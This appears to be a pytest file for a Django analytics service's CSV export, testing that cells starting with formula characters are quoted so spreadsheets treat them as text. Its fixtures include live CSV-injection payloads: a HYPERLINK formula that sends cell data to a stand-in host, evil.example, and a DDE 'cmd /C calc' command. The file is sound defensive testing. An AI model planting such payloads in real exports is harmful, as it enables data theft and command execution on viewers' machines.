"""Formula injection: a client stores text that a spreadsheet would run as a formula (=, +, -, @, a
leading tab or carriage return), and an operator or a viewer later opens the product's CSV."""

import csv
import http.client
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse

from tests.conftest import app_keys_create, batch_body, iso, make_event, signed_headers
from tests.server import signed_in_cookie, wsgi_to_http

pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _send(port: int, keys, events: list, **headers) -> int:
    body = batch_body(events)
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.request(
        "POST",
        keys.url,
        body=body,
        headers={"Content-Type": "application/json", **wsgi_to_http(signed_headers(keys, body, **headers))},
    )
    response = conn.getresponse()
    response.read()
    return response.status


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_export_events_writes_no_cell_a_spreadsheet_would_run(live_port, tmp_path):
    keys = app_keys_create()
    now = datetime.now(UTC)
    events = [
        make_event(
            timestamp=iso(now),
            session_id=text,
            service={"name": text, "version": text, "language": "python"},
            event={"type": text, "category": text, "data": {"text": text}},
        )
        for text in HOSTILE
    ]
    assert _send(live_port, keys, events, HTTP_X_SDK_VERSION="=2+5") == 200
    output = tmp_path / "export.csv"

    call_command(
        "export_events",
        "--org",
        keys.org_id,
        "--since",
        f"{now - timedelta(days=1):%Y-%m-%d}",
        "--until",
        f"{now + timedelta(days=1):%Y-%m-%d}",
        "--output",
        str(output),
        stderr=io.StringIO(),
    )

    rows = list(csv.reader(output.open(newline="")))
    assert len(rows) == 1 + len(HOSTILE)
    assert _formula_cells(rows) == []
    by_field = [dict(zip(rows[0], row)) for row in rows[1:]]
    # Nothing is lost: each value is kept whole behind the quote that makes a spreadsheet read it as text.
    assert sorted(row["event_type"] for row in by_field) == sorted("'" + text for text in HOSTILE)
    assert {row["sdk_version"] for row in by_field} == {"'=2+5"}


def test_export_events_leaves_numbers_as_numbers(live_port, tmp_path):
    keys = app_keys_create()
    now = datetime.now(UTC)
    assert _send(live_port, keys, [make_event(timestamp=iso(now), event={"type": "t", "data": -12.5})]) == 200
    output = tmp_path / "export.csv"

    call_command(
        "export_events",
        "--org",
        keys.org_id,
        "--since",
        f"{now - timedelta(days=1):%Y-%m-%d}",
        "--until",
        f"{now + timedelta(days=1):%Y-%m-%d}",
        "--output",
        str(output),
        stderr=io.StringIO(),
    )

    row = list(csv.DictReader(output.open(newline="")))[0]
    assert row["data"] == "-12.5"


def test_csv_download_of_a_crafted_event_type_has_no_formula(live_port):
    keys = app_keys_create()
    url = reverse("dashboards:application", args=[keys.org_id, keys.app_id])
    conn = http.client.HTTPConnection("127.0.0.1", live_port, timeout=10)

    # A link a viewer may be sent: the type filter is whatever the query string says.
    conn.request(
        "GET",
        url + "?range=24h&format=csv&type=%3Dcmd%7C'%20%2FC%20calc'!A0",
        headers={"Cookie": signed_in_cookie(keys.application.organization)},
    )
    response = conn.getresponse()

    rows = list(csv.reader(io.StringIO(response.read().decode())))
    assert response.status == 200 and response.getheader("Content-Type") == "text/csv"
    assert _formula_cells(rows) == []
    assert {row[2] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
